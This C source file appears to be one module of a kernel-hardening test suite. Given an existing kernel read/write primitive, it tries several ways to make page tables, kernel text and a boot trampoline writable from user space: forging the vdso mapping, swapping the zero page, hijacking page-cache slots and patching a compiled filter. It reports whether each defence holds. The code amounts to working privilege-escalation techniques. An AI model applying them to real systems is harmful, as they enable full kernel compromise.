// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks by way of what leaves map: the kernel reads the number of a page from
 * ordinary data and maps it for the attacker. Here it is a page table of his
 * own, which he then writes from user space.
 */
#include <errno.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <unistd.h>

#include "answer.h"
#include "attack.h"
#include "filter.h"
#include "list.h"
#include "objects.h"

#define MAPPING_SIZE	256	/* of struct address_space, at most */

/* Fields of a vma that are to be put back. */
struct changed_vma {
	uint64_t pointer_slot, pointer;
	uint64_t vma, protection;
};

static uint64_t more_bits;	/* of the entry */

/* A special mapping without a fault handler takes its pages from an array. */
static int forge_special_mapping(struct changed_vma *old, uint64_t page)
{
	struct kernel_page forged;
	int err;

	if (!kernel_page(&forged))
		return -1;
	kwrite64(forged.addr + SPECIAL_PAGES, forged.addr + SPECIAL_MAPPINGS);
	kwrite64(forged.addr + SPECIAL_MAPPINGS, page);
	err = kwrite64(old->pointer_slot, forged.addr);
	return err ?: kwrite64(old->vma + VMA_PROT, writable_protection() | more_bits);
}

static bool find_vdso(void *vdso, struct changed_vma *old)
{
	old->vma = find_vma(vdso);
	if (!old->vma)
		return false;
	old->pointer_slot = find_pointer_into(old->vma, VMA_SIZE, ksymbol(VDSO), SPECIAL_MAPPINGS);
	old->pointer = kread64(old->pointer_slot);
	old->protection = kread64(old->vma + VMA_PROT);
	return old->pointer_slot;
}

static struct changed_vma vdso_was;

volatile char *vdso_replace(uint64_t page, int *err)
{
	volatile char *vdso = (void *)getauxval(AT_SYSINFO_EHDR);

	if (!find_vdso((void *)vdso, &vdso_was))
		return NULL;
	*err = forge_special_mapping(&vdso_was, page);
	madvise((void *)vdso, PAGE_SIZE, MADV_DONTNEED);
	(void)vdso[0];	/* a fault that reads maps it to be written */
	return vdso;
}

void vdso_put_back(void)
{
	madvise((void *)getauxval(AT_SYSINFO_EHDR), PAGE_SIZE, MADV_DONTNEED);
	kwrite64(vdso_was.pointer_slot, vdso_was.pointer);
	kwrite64(vdso_was.vma + VMA_PROT, vdso_was.protection);
}

enum outcome vdso_page(void)
{
	volatile char *vdso;
	struct window window;
	char text[64];
	int err;

	if (!window_open(&window, LEVEL_PTE))
		return broken("no table found");
	vdso = vdso_replace(page_of(window.slot), &err);
	if (!vdso)
		return broken("no mapping of the vdso found");
	take_secret_in(vdso, &window, text, sizeof(text));
	vdso_put_back();
	return judge_secret(text, err);
}

#ifdef __aarch64__
#define PTE_ADDRESS_48	(1UL << 48)	/* of CPUs that have addresses of 52 bits */
#define PTE_SPECIAL	(1UL << 56)	/* or the kernel looks for the struct page there */

/* The kernel takes it for another page's number, and the CPU ignores it. */
enum outcome vdso_high_bit(void)
{
	enum outcome outcome;

	more_bits = PTE_ADDRESS_48 | PTE_SPECIAL;
	outcome = vdso_page();
	more_bits = 0;
	return outcome;
}
#else
enum outcome vdso_high_bit(void)
{
	return skipped("this CPU ignores no bit of an address");
}
#endif

/* The kernel's own text, which the user may then write. */
static uint64_t page_of_text(void)
{
	struct slot slot;

	return kwalk(text_address(), LEAF, 0, &slot) ? 0 : slot.page;
}

static char *in_page(volatile void *page)
{
	return (char *)page + text_address() % PAGE_SIZE;
}

enum outcome vdso_text(void)
{
	uint64_t page = page_of_text();
	volatile char *vdso;
	enum outcome outcome;
	int err;

	vdso = page ? vdso_replace(page, &err) : NULL;
	if (!vdso)
		return broken("no mapping of the vdso, or no kernel text found");
	outcome = patch_text_in_user_mapping(in_page(vdso));
	vdso_put_back();
	return outcome;
}

/* It has been run since the kernel started, and was written until then. */
enum outcome thunk_code(void)
{
	uint64_t thunk = ksymbol("attack_thunk"), value;
	volatile char *vdso;
	struct slot slot;
	int err;

	thunk = thunk ? kread64(thunk) : 0;
	if (!thunk || kwalk(thunk, LEVEL_PTE, 0, &slot) || !pte_is_executable(slot.value))
		return broken("no page that the kernel runs");
	vdso = vdso_replace(slot.page, &err);
	if (!vdso)
		return broken("no mapping of the vdso found");
	memcpy((void *)vdso, answer_code, ANSWER_SIZE);
	vdso_put_back();
	err = call_answer(thunk, &value);
	if (!is_answer(err, value))
		return lost("call gave %d, value 0x%lx", err, value);
	return won("code written to a page that the kernel runs answered 0x%lx", value);
}

enum outcome zero_page_text(void)
{
	uint64_t number = zero_page_at(), phys = text_phys(), old, vma;
	volatile char *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
				   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	enum outcome outcome;

	vma = find_vma(page);
	if (!number || !phys || !vma)
		return broken("no zero page, or no kernel text");
	old = kread64(number);
	if (kwrite64(number, phys / PAGE_SIZE))
		return lost("the number of the zero page is constant");
	kwrite64(vma + VMA_PROT, writable_protection());
	(void)page[0];	/* a fault that reads maps what is there */
	outcome = patch_text_in_user_mapping(in_page(page));
	madvise((void *)page, PAGE_SIZE, MADV_DONTNEED);
	kwrite64(number, old);
	munmap((void *)page, PAGE_SIZE);
	return outcome;
}

/* While the zero page is another one nobody may unmap the real one. */
enum outcome zero_page_number(void)
{
	uint64_t number = zero_page_at(), old, vma;
	volatile char *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
				   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	struct window window;
	struct slot table;
	char text[64];
	int err;

	if (!number || !window_open(&window, LEVEL_PTE) || kwalk(window.slot, LEAF, 0, &table))
		return broken("no zero page, or no page table");
	vma = find_vma(page);
	old = kread64(number);
	if (kwrite64(number, table.phys / PAGE_SIZE))
		return lost("the number of the zero page is constant");
	err = kwrite64(vma + VMA_PROT, writable_protection());
	take_secret_in(page, &window, text, sizeof(text));
	madvise((void *)page, PAGE_SIZE, MADV_DONTNEED);
	kwrite64(number, old);
	munmap((void *)page, PAGE_SIZE);
	return judge_secret(text, err);
}

/* A file of one page: the page cache's tree is a single pointer. */
struct cached_file {
	int fd;
	uint64_t mapping, slot, page;
};

static bool make_file(struct cached_file *file)
{
	volatile char *at;

	file->fd = memfd_create("page-cache", 0);
	if (file->fd < 0 || ftruncate(file->fd, PAGE_SIZE))
		return false;
	at = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, file->fd, 0);
	at[0] = 1;
	struct slot slot;

	if (kwalk((uint64_t)at, LEAF, 0, &slot) || munmap((void *)at, PAGE_SIZE))
		return false;
	file->page = slot.page;
	file->mapping = kread64(slot.page + PAGE_MAPPING);
	file->slot = find_word(file->mapping, MAPPING_SIZE, file->page);
	return file->slot;
}

/* What the page cache looks at before it believes that the page is the file's. */
static int put_into_file(const struct cached_file *file, uint64_t page)
{
	int err = kwrite64(page + PAGE_MAPPING, file->mapping);

	err = err ?: kwrite64(page + PAGE_INDEX, 0);
	err = err ?: kwrite64(page + PAGE_FLAGS, kread64(page + PAGE_FLAGS) | UPTODATE);
	return err ?: kwrite64(file->slot, page);
}

enum outcome page_cache_slot(void)
{
	char saved[STRUCT_PAGE], text[64];
	struct cached_file file;
	struct window window;
	uint64_t page;
	void *table;
	int err;

	if (!window_open(&window, LEVEL_PTE) || !make_file(&file))
		return broken("no file of one page");
	page = page_of(window.slot);
	kread(page, saved, sizeof(saved));
	err = put_into_file(&file, page);
	table = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, file.fd, 0);
	take_secret_in(table, &window, text, sizeof(text));
	munmap(table, PAGE_SIZE);
	kwrite64(file.slot, file.page);
	kwrite(page, saved, sizeof(saved));
	close(file.fd);
	return judge_secret(text, err);
}

static void patch_filter(const struct filter *filter, const struct cached_file *file)
{
	char *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, file->fd, 0);

	memcpy(page + filter->code % PAGE_SIZE, &filter->patched, sizeof(filter->patched));
	munmap(page, PAGE_SIZE);
}

enum outcome page_cache_filter(void)
{
	char saved[STRUCT_PAGE];
	struct cached_file file;
	struct filter filter;
	int err;

	if (!filter_open(&filter) || !make_file(&file))
		return broken("no compiled filter, or no file of one page");
	/* Who is killed leaves it in the file, and that would free it. */
	add_reference(filter.page, 8);
	kread(filter.page, saved, sizeof(saved));
	err = put_into_file(&file, filter.page);
	patch_filter(&filter, &file);
	kwrite64(file.slot, file.page);
	kwrite(filter.page, saved, sizeof(saved));
	close(file.fd);
	return filter_judge(&filter, err);
}

#ifdef __x86_64__
#define REAL_MODE	"real_mode_header"	/* a pointer; its text and where that ends */
#define MARK		0x6b6970206f6c6c65UL

/* Zeros at its end. It is read-only, and CPUs that start run it. */
static uint64_t trampoline_room(void)
{
	uint64_t header = kread64(ksymbol(REAL_MODE)), ends = kread64(header);
	uint64_t end = ((ends >> 32) + PAGE_SIZE - 1) & -PAGE_SIZE;

	return direct_map_base() + end - sizeof(end);
}

enum outcome trampoline_text(void)
{
	uint64_t room = trampoline_room(), page = page_of(room), seen;
	char saved[STRUCT_PAGE];
	struct cached_file file;
	volatile uint64_t *at;
	int err;

	if (!page || kread64(room) || !make_file(&file))
		return broken("no room in the trampoline, or no file of one page");
	if (!kwrite64(room, MARK))
		return broken("the trampoline is not read-only");
	add_reference(page, 8);
	kread(page, saved, sizeof(saved));
	err = put_into_file(&file, page);
	at = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, file.fd, 0);
	at[PAGE_SIZE / sizeof(*at) - 1] = MARK;
	seen = kread64(room);
	at[PAGE_SIZE / sizeof(*at) - 1] = 0;
	munmap((void *)at, PAGE_SIZE);
	kwrite64(file.slot, file.page);
	kwrite(page, saved, sizeof(saved));
	close(file.fd);
	if (seen != MARK)
		return lost("the trampoline is as it was (error %d)", err);
	return won("code that CPUs run when they start was written to in a mapping of user space");
}
#else
enum outcome trampoline_text(void)
{
	return skipped("x86-64 only");
}
#endif
